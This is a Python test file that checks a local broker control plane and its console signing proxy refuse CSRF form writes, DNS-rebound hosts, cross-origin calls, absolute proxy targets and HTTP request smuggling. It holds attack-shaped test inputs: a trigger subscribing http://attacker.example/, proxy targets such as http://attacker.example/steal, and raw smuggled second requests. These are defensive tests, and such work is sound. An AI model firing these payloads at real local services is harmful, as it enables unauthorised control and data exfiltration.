"""No web page may drive the local control plane or the console's signing proxy
(brokerctl/request_guard.py, docs/local-mode.md). Each rule is checked here on the real servers:
a cross-site ``text/plain`` PUT created a trigger whose subscriber was the attacker's; a rebound
name reached the runtime; the proxy forwarded absolute targets and any call, signed; a 405 left
its body to be read as a second request."""

from __future__ import annotations

import http.client
import json
import socket
from collections.abc import Iterator
from contextlib import closing

import httpx
import pytest

from app import app
from brokerctl.console import Console, TailHub
from brokerctl.embedded_aws import free_port
from brokerctl.http_server import AppServer
from chalicelib.container import use_container
from tests.functional.harness import Harness

CP = "/apis/eventing.knative.dev/v1/namespaces/ns"
TRIGGER = {
    "metadata": {"name": "evil"},
    "spec": {"broker": "default", "subscriber": {"uri": "http://attacker.example/"}},
}
EVENT = {"ce-specversion": "1.0", "ce-id": "e1", "ce-source": "/s", "ce-type": "t",
         "content-type": "text/plain"}  # fmt: skip


@pytest.fixture
def runtime() -> Iterator[tuple[Harness, int, Console]]:
    h = Harness()
    h.broker()
    use_container(h.container)
    console = Console(TailHub())
    server = AppServer(app, "127.0.0.1", free_port(), lambda line: None, console).start()
    try:
        yield h, int(server.url.rsplit(":", 1)[1]), console
    finally:
        console.stop()
        server.stop()
        use_container(None)


def call(
    port: int, method: str, target: str, headers: dict[str, str] | None = None, body: bytes = b""
) -> tuple[int, dict[str, str], bytes]:
    headers = {"Host": f"127.0.0.1:{port}", **(headers or {})}
    with closing(http.client.HTTPConnection("127.0.0.1", port, timeout=10)) as conn:
        conn.request(method, target, body=body or None, headers=headers)
        r = conn.getresponse()
        return r.status, {k.lower(): v for k, v in r.getheaders()}, r.read()


def triggers(h: Harness) -> list[str]:
    return [t["metadata"]["name"] for t in h.container.triggers.list("ns")["items"]]


def assert_problem(answer: tuple[int, dict[str, str], bytes], status: int, field: str) -> None:
    got, headers, body = answer
    assert got == status and headers["content-type"] == "application/problem+json"
    assert field in [e["field"] for e in json.loads(body)["errors"]]


@pytest.mark.parametrize(
    ("method", "kind"),
    [("PUT", "text/plain"), ("PUT", "application/x-www-form-urlencoded"),
     ("POST", "multipart/form-data; boundary=x"), ("PUT", None)],
)  # fmt: skip
def test_a_control_plane_write_is_json_or_refused_415(
    runtime: tuple[Harness, int, Console], method: str, kind: str | None
) -> None:
    # What a page's form (or fetch without CORS) can send with no preflight.
    h, port, _ = runtime
    target = f"{CP}/triggers/evil" if method == "PUT" else f"{CP}/triggers"
    headers = {"Content-Type": kind} if kind else {}
    answer = call(port, method, target, headers, json.dumps(TRIGGER).encode())
    assert_problem(answer, 415, "Content-Type")
    assert triggers(h) == []
    ok = call(port, "PUT", f"{CP}/triggers/evil", {"Content-Type": "application/json"},
              json.dumps(TRIGGER).encode())  # fmt: skip
    assert ok[0] in (200, 201) and triggers(h) == ["evil"]


def test_bodyless_writes_without_a_content_type_still_pass(
    runtime: tuple[Harness, int, Console],
) -> None:
    # The CLI's DELETE and POSTs without a body (a redrive, a token) send none; a form always does.
    _, port, _ = runtime
    assert call(port, "DELETE", f"{CP}/brokers/default")[0] in (200, 202)
    assert call(port, "POST", f"{CP}/triggers", {"Content-Type": "text/plain"})[0] == 415


def test_ingress_keeps_any_content_type(runtime: tuple[Harness, int, Console]) -> None:
    h, port, _ = runtime
    h.trigger("all")
    assert call(port, "POST", "/ns/default", EVENT, b"hello")[0] == 202


@pytest.mark.parametrize("host", ["attacker.example:{port}", "127.0.0.1:1", "", "localhost"])
def test_a_host_other_than_the_bound_address_is_421(
    runtime: tuple[Harness, int, Console], host: str
) -> None:
    # DNS rebinding: the page's own name, resolved to 127.0.0.1, is in its requests' Host.
    _, port, _ = runtime
    answer = call(port, "GET", f"{CP}/brokers", {"Host": host.format(port=port)})
    assert_problem(answer, 421, "Host")
    for allowed in (f"localhost:{port}", f"127.0.0.1:{port}", f"LOCALHOST:{port}"):
        assert call(port, "GET", f"{CP}/brokers", {"Host": allowed})[0] == 200


@pytest.mark.parametrize(
    "headers",
    [{"Origin": "http://attacker.example"}, {"Origin": "null"},
     {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}],
)  # fmt: skip
def test_a_cross_site_request_is_403_on_every_route(
    runtime: tuple[Harness, int, Console], headers: dict[str, str]
) -> None:
    h, port, console = runtime
    h.trigger("all")
    ingress = call(port, "POST", "/ns/default", {**EVENT, **headers}, b"x")
    assert_problem(ingress, 403, next(iter(headers)))
    assert h.messages(h.queue_of("all")) == []
    write = call(port, "PUT", f"{CP}/triggers/evil",
                 {**headers, "Content-Type": "application/json",
                  "X-Console-Token": console.token}, json.dumps(TRIGGER).encode())  # fmt: skip
    assert_problem(write, 403, next(iter(headers)))
    assert triggers(h) == ["all"]
    assert call(port, "GET", "/ui/stats", headers)[0] == 403


def test_the_console_page_writes_with_its_token_and_only_with_it(
    runtime: tuple[Harness, int, Console],
) -> None:
    h, port, console = runtime
    page = call(port, "GET", "/ui", {"Sec-Fetch-Site": "none"})
    assert page[0] == 200 and console.token.encode() in page[2]
    same = {"Origin": f"http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin",
            "Content-Type": "application/json"}  # fmt: skip
    body = json.dumps(TRIGGER).encode()
    assert_problem(call(port, "PUT", f"{CP}/triggers/evil", same, body), 403, "X-Console-Token")
    wrong = {**same, "X-Console-Token": "guessed"}
    assert_problem(call(port, "PUT", f"{CP}/triggers/evil", wrong, body), 403, "X-Console-Token")
    assert triggers(h) == []
    right = {**same, "X-Console-Token": console.token}
    assert call(port, "PUT", f"{CP}/triggers/evil", right, body)[0] in (200, 201)
    assert call(port, "GET", f"{CP}/triggers", same)[0] == 200  # reads need no token


def test_an_absolute_target_is_400(runtime: tuple[Harness, int, Console]) -> None:
    _, port, _ = runtime
    answer = call(port, "GET", f"http://127.0.0.1:{port}{CP}/brokers")
    assert_problem(answer, 400, "target")


def responses_on_one_connection(port: int, data: bytes) -> bytes:
    """Everything answered to ``data`` until the server has been quiet for a second."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(data)
        sock.settimeout(1.0)
        got = b""
        try:
            while part := sock.recv(65536):
                got += part
        except TimeoutError:
            pass
        return got


@pytest.mark.parametrize("route", ["/ui/events", "/ui/console.js"])
def test_a_refused_body_is_never_read_as_a_second_request(
    runtime: tuple[Harness, int, Console], route: str
) -> None:
    h, port, _ = runtime
    smuggled = (
        f"PUT {CP}/triggers/evil HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(json.dumps(TRIGGER))}\r\n\r\n"
        f"{json.dumps(TRIGGER)}"
    ).encode()
    head = (
        f"POST {route} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: text/plain\r\n"
        f"Content-Length: {len(smuggled)}\r\n\r\n"
    ).encode()
    got = responses_on_one_connection(port, head + smuggled)
    assert got.startswith(b"HTTP/1.1 405 ") and got.count(b"HTTP/1.1 ") == 1
    assert triggers(h) == []


# ---- the console's signing proxy (brokerctl console) -----------------------------------------


@pytest.fixture
def proxy() -> Iterator[tuple[int, list[httpx.Request], str]]:
    from botocore.credentials import Credentials

    from brokerctl.client import resolve_target
    from brokerctl.console.proxy import ConsoleProxy

    seen: list[httpx.Request] = []

    def api(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, json={"items": []})

    target = resolve_target("https://abc123.execute-api.eu-west-1.amazonaws.com/api", None)
    server = ConsoleProxy(
        target, "127.0.0.1", free_port(), Credentials("AKIDEXAMPLE", "secret"),
        httpx.MockTransport(api),
    ).start()  # fmt: skip
    try:
        yield int(server.url.rsplit(":", 1)[1]), seen, server.console.token
    finally:
        server.stop()


def test_the_proxy_forwards_only_the_pages_calls(
    proxy: tuple[int, list[httpx.Request], str],
) -> None:
    port, seen, token = proxy
    path = f"{CP}/triggers"
    assert_problem(call(port, "GET", path), 403, "X-Console-Token")
    assert_problem(call(port, "GET", path, {"X-Console-Token": "x" * 43}), 403, "X-Console-Token")
    assert seen == []
    assert call(port, "GET", path, {"X-Console-Token": token})[0] == 200
    assert len(seen) == 1


@pytest.mark.parametrize(
    "target", ["http://attacker.example/steal", "//attacker.example/steal", "*"]
)
def test_the_proxy_never_forwards_anywhere_but_its_api(
    proxy: tuple[int, list[httpx.Request], str], target: str
) -> None:
    port, seen, token = proxy
    answer = call(port, "GET", target, {"X-Console-Token": token})
    if target.startswith("/"):  # a path, however odd: it goes to the API, under its stage
        assert answer[0] == 200
        (request,) = seen
        assert request.url.host == "abc123.execute-api.eu-west-1.amazonaws.com"
        assert request.url.raw_path == b"/api//attacker.example/steal"
    else:
        assert_problem(answer, 400, "target")
        assert seen == []


@pytest.mark.parametrize(
    "headers",
    [{"Host": "rebound.attacker.example:{port}"}, {"Origin": "http://attacker.example"},
     {"Sec-Fetch-Site": "cross-site"}],
)  # fmt: skip
def test_the_proxy_refuses_rebound_and_cross_site_calls(
    proxy: tuple[int, list[httpx.Request], str], headers: dict[str, str]
) -> None:
    port, seen, token = proxy
    headers = {k: v.format(port=port) for k, v in headers.items()}
    answer = call(port, "PUT", f"{CP}/triggers/evil",
                  {**headers, "X-Console-Token": token, "Content-Type": "application/json"},
                  json.dumps(TRIGGER).encode())  # fmt: skip
    assert answer[0] in (403, 421) and seen == []


def test_the_proxy_refuses_a_form_write(proxy: tuple[int, list[httpx.Request], str]) -> None:
    port, seen, token = proxy
    answer = call(port, "POST", f"{CP}/triggers",
                  {"X-Console-Token": token, "Content-Type": "text/plain"},
                  json.dumps(TRIGGER).encode())  # fmt: skip
    assert_problem(answer, 415, "Content-Type")
    assert seen == []


def test_a_405_on_the_proxys_tail_leaves_no_second_request(
    proxy: tuple[int, list[httpx.Request], str],
) -> None:
    port, seen, _ = proxy
    smuggled = f"GET {CP}/triggers HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode()
    head = (
        f"POST /ui/events HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
        f"Content-Length: {len(smuggled)}\r\n\r\n"
    ).encode()
    got = responses_on_one_connection(port, head + smuggled)
    assert got.startswith(b"HTTP/1.1 405 ") and got.count(b"HTTP/1.1 ") == 1
    assert seen == []
